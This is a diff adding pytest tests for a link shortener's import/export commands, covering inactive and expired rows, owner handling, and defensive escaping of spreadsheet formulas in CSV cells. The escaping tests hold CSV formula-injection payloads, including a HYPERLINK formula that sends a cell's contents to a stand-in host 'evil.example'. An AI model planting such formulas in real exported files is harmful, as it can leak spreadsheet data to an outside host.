@@ -258,6 +258,142 @@ def test_export_streams_every_link_that_is_not_deleted_oldest_first(admin):
     assert exported == [link.code for link in made if link.code != "imp-e2"]
 
 
+PAST = "2001-01-01T00:00:00+00:00"
+
+
+def test_dead_rows_are_created_deactivated_and_never_redirect(settings, client):
+    rows = [
+        {"url": "https://example.com/d1", "alias": "imp-dead-inactive", "state": "inactive"},
+        {"url": "https://example.com/d2", "alias": "imp-d-exp", "state": "expired", "expires_at": PAST},
+        {"url": "https://example.com/d3", "alias": "imp-d-used", "state": "exhausted", "max_clicks": "2"},
+        {"url": "https://example.com/d4", "alias": "imp-dead-flag", "is_active": "false"},
+        {"url": "https://example.com/d5", "alias": "imp-dead-json", "is_active": False, "state": "active"},
+        {"url": "https://example.com/d6", "alias": "imp-dead-both", "state": "inactive", "is_active": True},
+        {"url": "https://example.com/d7", "alias": "imp-dead-old", "state": "Inactive", "expires_at": PAST},
+        {"url": "https://example.com/a1", "alias": "imp-alive", "state": "active", "is_active": "TRUE"},
+        {"url": "https://example.com/a2", "alias": "imp-alive2", "state": "", "is_active": ""},
+    ]  # fmt: skip
+    summary = run_import(settings, rows)
+    assert (summary.created, summary.rejected) == (9, [])
+    active = dict(Link.select(Link.code, Link.is_active).where(Link.code.startswith("imp-")).tuples())
+    assert {code for code, is_active in active.items() if is_active} == {"imp-alive", "imp-alive2"}
+    assert Link.get(Link.code == "imp-d-exp").expires_at == datetime.fromisoformat(PAST)
+    assert Link.get(Link.code == "imp-d-used").max_clicks == 2
+    for code in active:
+        assert client.get(f"/{code}").status_code == (302 if active[code] else 410), code
+    again = run_import(settings, rows)
+    assert (again.created, again.present, again.rejected) == (0, 9, [])
+
+
+def test_a_past_expiry_is_refused_unless_the_row_is_dead(settings):
+    rows = [
+        {"url": "https://example.com/p1", "alias": "imp-past-active", "state": "active", "expires_at": PAST},
+        {"url": "https://example.com/p2", "alias": "imp-past-none", "expires_at": PAST},
+        {"url": "https://example.com/p3", "alias": "imp-past-exp", "state": "expired", "expires_at": PAST},
+    ]  # fmt: skip
+    summary = run_import(settings, rows)
+    assert summary.created == 1 and codes_of(summary) == {1: "invalid_input", 2: "invalid_input"}
+    assert all("future" in r.reason for r in summary.rejected)
+    link = Link.get(Link.code == "imp-past-exp")
+    assert not link.is_active and link.expires_at == datetime.fromisoformat(PAST)
+
+
+def test_bad_state_is_active_and_owner_cells_are_rejected_and_cost_no_good_row(settings):
+    rows = [
+        {"url": "https://example.com/s1", "state": "zombie"},
+        {"url": "https://example.com/s2", "is_active": "maybe"},
+        {"url": "https://example.com/s3", "owner_id": "alice"},
+        {"url": "https://example.com/s4", "owner_id": 0},
+        {"url": "https://example.com/s5", "owner_id": True},
+        {"state": "inactive"},
+        {"url": "https://example.com/s7"},
+    ]
+    summary = run_import(settings, rows)
+    assert summary.created == 1 and set(codes_of(summary)) == {1, 2, 3, 4, 5, 6}
+    reasons = {r.row: r.reason for r in summary.rejected}
+    assert reasons[1] == "state: must be one of active, inactive, expired, exhausted"
+    assert reasons[2] == "is_active: must be true or false"
+    assert reasons[3] == reasons[4] == reasons[5] == "owner_id: must be a user id (a positive integer)"
+    assert reasons[6] == "url: this field is required"
+
+
+def test_a_row_naming_an_owner_is_never_made_public(settings):
+    owner = make_user("imp-row-owner")
+    rows = [
+        {"url": "https://example.com/o1", "alias": "imp-owned1", "owner_id": str(owner.id)},
+        {"url": "https://example.com/o2", "title": "Mine", "owner_id": owner.id},
+        {"url": "https://example.com/o3", "alias": "imp-owned3", "owner_id": "999999"},
+        {"url": "https://example.com/o4", "alias": "imp-public"},
+    ]
+    plain = run_import(settings, rows)
+    assert plain.created == 1 and codes_of(plain) == {
+        1: "owner_not_kept",
+        2: "owner_not_kept",
+        3: "owner_not_kept",
+    }
+    assert plain.rejected[0].reason == (
+        f"owned by user {owner.id} in the export: import with --keep-owners or --owner"
+    )
+    assert Link.get(Link.code == "imp-public").owner_id is None
+    assert (
+        not Link.select()
+        .where(Link.target_url.in_(["https://example.com/o1", "https://example.com/o2"]))
+        .exists()
+    )
+
+    kept = run_import(settings, rows, keep_owners=True)
+    assert (kept.created, kept.present) == (2, 1) and codes_of(kept) == {3: "unknown_owner"}
+    assert "no user with id 999999" in kept.rejected[0].reason
+    assert Link.get(Link.code == "imp-owned1").owner_id == owner.id
+    assert Link.get(Link.target_url == "https://example.com/o2").owner_id == owner.id
+    again = run_import(settings, rows, keep_owners=True)
+    assert (again.created, again.present, codes_of(again)) == (0, 3, {3: "unknown_owner"})
+    # Without the option, rows already present stay present: nothing is created, nothing dropped.
+    plain_again = run_import(settings, rows)
+    assert (plain_again.created, plain_again.present, codes_of(plain_again)) == (0, 3, {3: "owner_not_kept"})
+
+
+def test_an_explicit_owner_overrides_the_owner_a_row_names(settings):
+    owner, other = make_user("imp-named"), make_user("imp-override")
+    rows = [
+        {"url": "https://example.com/v1", "owner_id": str(owner.id)},
+        {"url": "https://example.com/v2", "owner_id": "999999"},
+        {"url": "https://example.com/v3"},
+    ]
+    summary = run_import(settings, rows, owner_id=other.id)
+    assert (summary.created, summary.rejected) == (3, [])
+    assert Link.select().where(Link.owner == other.id).count() == 3
+    assert run_import(settings, rows, owner_id=other.id).present == 3
+    with pytest.raises(InvalidInput):
+        run_import(settings, rows, owner_id=other.id, keep_owners=True)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("'=escaped", "''=escaped"),
+        ("'quoted'", "''quoted'"),
+        ("plain = text", "plain = text"),
+        ("", ""),
+        (7, 7),
+        (None, None),
+    ],
+)
+def test_csv_cells_are_escaped_against_formulas_and_read_back_as_written(value, cell):
+    assert imports.csv_cell(value) == cell
+    assert imports.from_csv_cell(cell) == value
+
+
+def test_a_quote_that_escapes_nothing_is_kept():
+    assert imports.from_csv_cell("'hello") == "'hello"
+
+
 # --- the commands -------------------------------------------------------------------------------
 
 
@@ -362,7 +498,93 @@ def _read(path: Path, file_format: str) -> list[dict]:
     if file_format == "json":
         return json.loads(path.read_text())
     with path.open(newline="") as handle:
-        return list(csv.DictReader(handle))
+        return [
+            {name: imports.from_csv_cell(value) for name, value in row.items()}
+            for row in csv.DictReader(handle)
+        ]
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click me")'
+
+
+def _hard_delete_links() -> None:
+    """Empty the link table, as in a fresh database (the users stay)."""
+    Link.delete().execute()
+
+
+def _link_rows() -> dict[str, dict]:
+    return {row["alias"]: {k: v for k, v in row.items() if k not in ("created_at", "click_count")}
+            for row in imports.export_rows()}  # fmt: skip
+
+
+@pytest.mark.parametrize("file_format", ["csv", "json"])
+def test_an_export_imports_into_a_fresh_database_as_it_was(app, client, tmp_path, file_format):
+    alice = make_user("imp-alice")
+    make_link("https://bank.example/login", code="bank-login", is_active=False, click_count=40)
+    make_link("https://example.com/secret", code="alice-secret", owner=alice, title="Alice's")
+    make_link("https://example.com/gone", code="alice-gone", owner=alice, is_active=False)
+    make_link(
+        "https://example.com/old", code="imp-expired", expires_at=datetime.now(UTC) - timedelta(hours=1)
+    )
+    make_link("https://example.com/used", code="imp-used", max_clicks=2, human_click_count=2, click_count=3)
+    make_link("https://example.com/ok", code="-imp-live", title=FORMULA_TITLE, max_clicks=9, click_count=5)
+    make_link("https://example.com/q", code="imp-quoted", title="'=not a formula", redirect_type=301)
+    before = _link_rows()
+    path = tmp_path / f"links.{file_format}"
+    assert invoke(app, "export", "--format", file_format, "--output", str(path)).exit_code == 0
+    _hard_delete_links()
+
+    plain = invoke(app, "import", str(path), "--rejects", str(tmp_path / "rejects.csv"))
+    assert plain.exit_code == 0, plain.output
+    assert "owner_not_kept" in plain.output and not Link.select().where(Link.code == "alice-secret").exists()
+    assert client.get("/bank-login").status_code == 410
+    assert client.get("/-imp-live").status_code == 302
+    kept = invoke(app, "import", str(tmp_path / "rejects.csv"), "--keep-owners")
+    assert kept.exit_code == 0, kept.output
+    assert client.get("/urls/alice-secret").status_code != 200
+
+    # As it was, but dead links are deactivated (their state reads "inactive") and clicks start at 0.
+    dead = {"active": "active", "inactive": "inactive", "expired": "inactive", "exhausted": "inactive"}
+    assert _link_rows() == {code: {**row, "state": dead[row["state"]]} for code, row in before.items()}
+    assert [before[code]["state"] for code in ("bank-login", "imp-expired", "imp-used")] == [
+        "inactive",
+        "expired",
+        "exhausted",
+    ]
+    assert {link.code: (link.is_active, link.click_count) for link in Link.select()} == {
+        "bank-login": (False, 0), "alice-secret": (True, 0), "alice-gone": (False, 0),
+        "imp-expired": (False, 0), "imp-used": (False, 0), "-imp-live": (True, 0), "imp-quoted": (True, 0),
+    }  # fmt: skip
+    assert Link.get(Link.code == "alice-gone").owner_id == alice.id
+    assert client.get("/alice-gone").status_code == 410
+    again = invoke(app, "import", str(path), "--keep-owners")
+    assert again.exit_code == 0
+    summary = run_import(app.extensions["settings"], _read(path, file_format), keep_owners=True)
+    assert (summary.created, summary.present, summary.rejected) == (0, 7, [])
+
+
+def test_csv_export_and_rejects_escape_formulas(app, tmp_path):
+    make_link("https://example.com/f", code="-imp-formula", title=FORMULA_TITLE)
+    path = tmp_path / "links.csv"
+    assert invoke(app, "export", "--output", str(path)).exit_code == 0
+    with path.open(newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["url"] == "https://example.com/f")
+    assert row["alias"] == "'-imp-formula" and row["title"] == "'" + FORMULA_TITLE
+    json_rows = json.loads(invoke(app, "export", "--format", "json").stdout)
+    assert json_rows[-1]["title"] == FORMULA_TITLE  # JSON is not for spreadsheets: unescaped
+
+    bad = write_csv(tmp_path / "bad.csv", [{"url": "nope", "title": "'" + FORMULA_TITLE, "alias": "@imp"}])
+    rejects = tmp_path / "rejects.csv"
+    assert invoke(app, "import", str(bad), "--rejects", str(rejects)).exit_code == 0
+    with rejects.open(newline="") as handle:
+        rejected = next(csv.DictReader(handle))
+    assert rejected["title"] == "'" + FORMULA_TITLE and rejected["alias"] == "'@imp"
+
+
+def test_import_refuses_owner_with_keep_owners(app, tmp_path):
+    path = write_csv(tmp_path / "links.csv", [{"url": "https://example.com/both"}])
+    result = invoke(app, "import", str(path), "--owner", "1", "--keep-owners")
+    assert result.exit_code != 0 and "exclude each other" in result.output
 
 
 def test_export_writes_json_to_stdout(app):
